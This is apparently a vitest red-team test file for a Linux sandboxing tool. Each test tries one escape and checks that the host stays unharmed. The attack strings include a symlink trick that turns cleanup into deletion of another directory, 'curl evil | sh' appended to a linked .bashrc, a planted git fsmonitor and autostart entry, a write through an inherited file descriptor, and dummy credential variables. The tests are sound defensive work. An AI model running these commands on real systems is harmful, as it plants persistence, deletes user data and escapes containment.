import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { closeSync, existsSync, openSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { expect, it } from 'vitest';
import { placeholderRegistryBase } from '../../src/backends/linux/placeholders.js';
import { closeRuntime, createRuntime } from '../../src/runtime.js';
import { prepare } from '../../src/spawn.js';
import { describeSandbox, isRoot, run, scratchTrees, sh } from './harness.js';

/**
 * Red-team cases against the issue-7 fixes (items 2-13), each written as "no harm on the
 * host": every test here failed against the first round of fixes, and passes since its own. Harm is judged on the
 * host after the command (a file deleted or written outside the writable roots, a start-up
 * file changed, a secret value in the command's output).
 */

const tree = scratchTrees();

/** An existing home of another passwd user under /home (uid >= 1000), for the root-only case. */
const otherUserHome = readFileSync('/etc/passwd', 'utf8')
  .split('\n')
  .map((l) => l.split(':'))
  .filter((f) => f.length >= 7 && Number(f[2]) >= 1000 && Number(f[2]) !== process.getuid?.() && f[5]!.startsWith('/home/'))
  .map((f) => f[5]!)
  .find((h) => existsSync(h) && statSync(h).isDirectory());

describeSandbox('red team: the command acts on the host later (issue 7 follow-up)', () => {
  // Bypass 1. The placeholder registry ($TMPDIR/cordon-$UID) is trusted to say what the
  // harness (and, after a SIGKILL, the reaper) deletes. It is only hidden by the private tmp:
  // when /tmp is a writable root (`write.allow: ['/tmp']`, or `--workspace /tmp`), the command
  // can rewrite it. Replacing `<root>/users` with a symlink to any directory makes `release()`
  // rmSync every file in that directory (their names parse as no live pid).
  it('a writable /tmp does not let the command make the harness delete files elsewhere', async () => {
    const t = tree({ 'ws/README': 'hi', 'victim/id_ed25519': 'PRECIOUS KEY', 'victim/notes.txt': 'PRECIOUS' });
    const ws = t.path('ws');
    const victim = t.path('victim');
    const registryRoot = path.join(placeholderRegistryBase(), 'placeholders', createHash('sha256').update(ws).digest('hex').slice(0, 32));
    const runtime = createRuntime({ placeholders: { reaper: false } });
    try {
      const attack = 'd="$1"; mv "$d/users" "$d/users.old" && ln -s "$2" "$d/users" && echo planted';
      await run('sh', ['-c', attack, 'sh', registryRoot, victim], { workspace: ws, runtime, policy: { write: { allow: ['/tmp'] } } });
    } finally {
      closeRuntime(runtime); // the release that follows the planted `users` link
      rmSync(registryRoot, { recursive: true, force: true }); // removes the link, never its target
    }
    expect(readdirSync(victim).sort()).toEqual(['id_ed25519', 'notes.txt']);
  });

  // Bypass 2. Item 3 protects a home's start-up files only when the home lies inside a
  // writable root. With a dotfile manager (stow, yadm, chezmoi symlink mode) ~/.bashrc is a
  // link into ~/dotfiles; a command whose workspace is ~/dotfiles rewrites the real file, and
  // the user's next shell runs it.
  it('a start-up file linked into the workspace (~/.bashrc -> ~/dotfiles/bashrc) stays unchanged', async () => {
    const t = tree({ 'home/dotfiles/bashrc': '# my rc\n', 'home/.bashrc': '-> home/dotfiles/bashrc' });
    const home = t.path('home');
    // A refusal (rejection) is as good as a failed write: only the host file is judged.
    await sh('echo "curl evil | sh" >> bashrc', { workspace: t.path('home/dotfiles'), env: { HOME: home } }).catch(() => undefined);
    expect(readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe('# my rc\n');
  });

  // Bypass 3. Same class: a workspace INSIDE a home that holds start-up locations (~/.config:
  // git's XDG config, fish, autostart, systemd user units, nvim) is accepted with none of them
  // protected. A core.fsmonitor there runs at the user's next `git status` in any repository.
  it('a workspace of ~/.config cannot plant a global git config or an autostart entry', async () => {
    const t = tree({ 'home/.config/README': 'x' });
    const home = t.path('home');
    await sh('mkdir -p git autostart && printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" > git/config && printf "[Desktop Entry]\\nExec=sh -c evil\\n" > autostart/x.desktop', {
      workspace: t.path('home/.config'),
      env: { HOME: home },
    }).catch(() => undefined);
    expect(existsSync(path.join(home, '.config/git/config'))).toBe(false);
    expect(existsSync(path.join(home, '.config/autostart/x.desktop'))).toBe(false);
  });

  // Bypass 4 (root only). Item 3 refuses the caller's own homes, but as root another user's
  // home (/home/alice) is an accepted workspace: the command writes alice's ~/.bashrc, which
  // runs as alice at her next shell. Checked by planning only (no command touches that home).
  it.skipIf(!isRoot || otherUserHome === undefined)("as root, another user's home is not accepted as a writable workspace (skipped: not root, or no other home under /home)", () => {
    expect(() => prepare('true', [], { workspace: otherUserHome! })).toThrow(/home/);
  });

  // Bypass 5. A directory descriptor the harness inherited without close-on-exec reaches the
  // sandbox (README lists "descriptors inherited", but it is a full escape, not a leak:
  // /proc/self/fd/N/... writes anywhere on the host). Node's uv_disable_stdio_inheritance only
  // marks fds 0..15 (and the run after them), so fd 20 from the harness's parent stays open.
  it('a directory fd inherited by the harness does not let the command write outside', { timeout: 60_000 }, async () => {
    const t = tree({ 'ws/README': 'hi', 'outside/': '' });
    const outside = t.path('outside');
    const fixture = t.path('harness.ts');
    const spawnUrl = pathToFileURL(fileURLToPath(new URL('../../src/spawn.ts', import.meta.url))).href;
    writeFileSync(
      fixture,
      `import { sandboxedSpawn } from ${JSON.stringify(spawnUrl)};\n` +
        `const r = await sandboxedSpawn('sh', ['-c', 'echo pwned > /proc/self/fd/20/ESCAPED'], { workspace: process.argv[2], reject: false });\n` +
        `console.log('exit', r.exitCode);\n`,
    );
    const viteNode = fileURLToPath(new URL('../../node_modules/vite-node/vite-node.mjs', import.meta.url));
    const dirFd = openSync(outside, 'r');
    try {
      const stdio: Array<'ignore' | 'pipe' | number> = ['ignore', 'pipe', 'pipe', ...Array<'ignore'>(17).fill('ignore'), dirFd];
      const child = spawn(process.execPath, [viteNode, fixture, t.path('ws')], { stdio });
      let out = '';
      child.stdout!.on('data', (d: Buffer) => (out += String(d)));
      child.stderr!.on('data', (d: Buffer) => (out += String(d)));
      await new Promise((resolve) => child.once('exit', resolve));
      expect(out).toMatch(/exit \d+/); // the harness ran the command
    } finally {
      closeSync(dirFd);
    }
    expect(existsSync(path.join(outside, 'ESCAPED'))).toBe(false);
  });

  // Bypass 6. Item 6: credentials in env forms real tools use, missed by both name and value
  // rules. Each value is printed by `env` inside the sandbox today.
  it('realistic credential variables do not reach the command', async () => {
    const t = tree({ 'ws/README': 'hi' });
    const secrets: Record<string, string> = {
      // Jenkins declarative `environment { DOCKER_CREDS = credentials('id') }` sets all three.
      DOCKER_CREDS: 'alice:jenkinsPW-1111',
      DOCKER_CREDS_USR: 'alice',
      DOCKER_CREDS_PSW: 'jenkinsPW-2222',
      // sshpass -e reads its password from SSHPASS.
      SSHPASS: 'sshpassPW-3333',
      // OpenTelemetry's standard exporter headers carry vendor API keys (Honeycomb, New Relic, Grafana).
      OTEL_EXPORTER_OTLP_HEADERS: 'x-honeycomb-team=hcaik-4444abcdefgh',
      // Gradle's documented in-memory signing key (ASCII-armored PGP; the PEM rule misses "KEY BLOCK").
      ORG_GRADLE_PROJECT_signingKey: '-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQVYBGRk5555\n-----END PGP PRIVATE KEY BLOCK-----',
      // Bundler's documented per-host credentials.
      BUNDLE_GEMS__EXAMPLE__COM: 'alice:bundlerPW-6666',
      // git's env-config mechanism with an auth header (CI checkouts).
      GIT_CONFIG_VALUE_0: 'AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Nzc3Nw==',
      // kubectl GitHub actions: base64 kubeconfig (client keys, tokens).
      KUBE_CONFIG_DATA: 'YXBpVmVyc2lvbjogdjEKdXNlcnM6IFt7dG9rZW46IDg4ODh9XQ==',
    };
    const r = await run('env', [], { workspace: t.path('ws'), env: { ...secrets, GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'http.https://github.com/.extraheader' } });
    expect(r.exitCode).toBe(0);
    const leaked = Object.entries(secrets).filter(([name, value]) => name !== 'DOCKER_CREDS_USR' && r.stdout.includes(value.split('\n')[0]!.slice(-10)));
    expect(leaked.map(([name]) => name)).toEqual([]);
  });
});
